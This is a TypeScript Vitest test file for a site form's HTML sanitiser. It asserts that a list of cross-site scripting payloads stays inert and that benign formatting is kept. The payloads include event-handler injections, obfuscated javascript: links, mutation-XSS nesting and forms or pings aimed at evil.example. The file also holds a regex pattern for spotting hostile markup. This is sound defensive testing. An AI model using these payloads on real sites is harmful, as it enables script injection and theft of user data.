import { readFileSync } from 'node:fs';
import { afterEach, describe, expect, it } from 'vitest';
import { sanitizeHtml } from '../../../widgets/site-form/post-submit.js';
import { hasSharedFiles, sharedPath } from '../../shared-folder.js';

const KEPT_TAGS = new Set(
  'a abbr b blockquote br code div em h2 h3 h4 h5 h6 hr i li ol p pre s small span strong sub sup u ul'.split(
    ' ',
  ),
);
const KEPT_ATTRIBUTES = new Set(['href', 'title', 'lang', 'dir', 'start', 'reversed']);

/** The sanitised markup as the page would hold it. */
function sanitized(html: string): HTMLDivElement {
  const holder = document.createElement('div');
  holder.append(sanitizeHtml(html, document));
  document.body.append(holder);
  return holder;
}

afterEach(() => {
  document.body.replaceChildren();
  delete (window as unknown as { hacked?: unknown }).hacked;
});

/** What hostile content must never leave behind, whatever it was. */
function expectInert(holder: HTMLElement): void {
  for (const el of Array.from(holder.querySelectorAll('*'))) {
    expect(KEPT_TAGS.has(el.localName), `<${el.localName}> kept`).toBe(true);
    for (const { name } of Array.from(el.attributes)) {
      expect(KEPT_ATTRIBUTES.has(name), `${name} kept on <${el.localName}>`).toBe(true);
    }
    const href = el.getAttribute('href');
    if (href !== null) expect(new URL(href).protocol).toMatch(/^https?:$/);
  }
  expect((window as unknown as { hacked?: unknown }).hacked).toBeUndefined();
}

// The hostile markup of the template conformance corpus: every string of its data holding a tag.
const CORPUS = 'conformance/template-engine/cases.jsonl';
const hasCorpus = hasSharedFiles('the hostile markup of the template conformance corpus', [CORPUS]);
function corpusMarkup(): string[] {
  const found = new Set<string>();
  const visit = (value: unknown): void => {
    if (typeof value === 'string') {
      if (/<\s*(script|img|svg|iframe|a|style)\b|on\w+\s*=|javascript:/i.test(value)) found.add(value);
    } else if (Array.isArray(value)) value.forEach(visit);
    else if (value !== null && typeof value === 'object') Object.values(value).forEach(visit);
  };
  for (const line of readFileSync(sharedPath(CORPUS), 'utf8').split('\n')) {
    if (line.trim() !== '') visit((JSON.parse(line) as { json: unknown }).json);
  }
  return [...found];
}

const HOSTILE = [
  '<script>window.hacked = true</script>',
  '<img src=x onerror="window.hacked = true">',
  '<svg onload="window.hacked = true"><circle r="1"/></svg>',
  '<svg><a href="javascript:window.hacked=true"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.hacked=true">',
  '<a href="javascript:window.hacked = true">click</a>',
  '<a href=" JaVaScRiPt:window.hacked = true">click</a>',
  '<a href="java&#x09;script:window.hacked = true">click</a>',
  '<a href="&#106;avascript:window.hacked = true">click</a>',
  '<a href="data:text/html,<script>window.hacked = true</script>">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<p onclick="window.hacked = true" style="position:fixed;inset:0" class="sf-button" id="sf-context">x</p>',
  '<iframe src="javascript:window.hacked = true"></iframe>',
  '<iframe srcdoc="<script>parent.hacked = true</script>"></iframe>',
  '<object data="javascript:window.hacked = true"></object><embed src="x.swf">',
  '<form action="https://evil.example/"><input name="card"><button formaction="javascript:x">Go</button></form>',
  '<style>body { display: none }</style><link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:window.hacked=true"><base href="https://evil.example/">',
  '<template><img src=x onerror="window.hacked = true"></template>',
  '<noscript><p title="</noscript><img src=x onerror=window.hacked=true>"></noscript>',
  '<a href="https://example.com/" target="_top" rel="opener" ping="https://evil.example/">ok</a>',
  '<div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><b onmouseover="window.hacked=true">deep</b></div></div></div>',
  '<!--><img src=x onerror="window.hacked = true">-->',
  '<details open ontoggle="window.hacked = true">x</details>',
  '<video><source onerror="window.hacked = true"></video>',
];

describe('post-submit content: hostile markup stays inert', () => {
  it.each(HOSTILE)('%s', (html) => {
    expectInert(sanitized(html));
  });
});

describe.skipIf(!hasCorpus)('post-submit content: the conformance corpus stays inert', () => {
  const corpus = hasCorpus ? corpusMarkup() : [];
  it('finds hostile markup in the conformance corpus', () => {
    expect(corpus.length).toBeGreaterThan(3);
  });
  it.each(corpus)('corpus: %s', (html) => {
    expectInert(sanitized(html));
  });
});

describe('post-submit content: formatting and links are kept', () => {
  it.each([
    ['<p>See you <b>soon</b></p>', '<p>See you <b>soon</b></p>'],
    [
      '<h2>Thanks</h2><ul><li>One</li><li><em>Two</em></li></ul>',
      '<h2>Thanks</h2><ul><li>One</li><li><em>Two</em></li></ul>',
    ],
    [
      '<a href="https://example.com/map" title="Map">map</a>',
      '<a href="https://example.com/map" title="Map">map</a>',
    ],
    ['<p style="color:red" class="x">plain <font color="red">red</font></p>', '<p>plain red</p>'],
    ['<h1>Big</h1><table><tr><td>cell</td></tr></table>', 'Bigcell'],
    ['<p>a</p><script>b</script><p>c</p>', '<p>a</p><p>c</p>'],
    ['5 < 6 & <b>7</b>', '5 &lt; 6 &amp; <b>7</b>'],
  ])('%s gives %s', (html, expected) => {
    expect(sanitized(html).innerHTML).toBe(expected);
  });

  it('resolves a relative link against the page', () => {
    const link = sanitized('<a href="/hours?day=mon#open">our hours</a>').querySelector('a');
    expect(link?.getAttribute('href')).toBe(new URL('/hours?day=mon#open', document.baseURI).href);
  });

  it('keeps the text of a refused link, without its address', () => {
    const holder = sanitized('<a href="javascript:alert(1)">bad</a>');
    expect(holder.innerHTML).toBe('<a>bad</a>');
  });
});
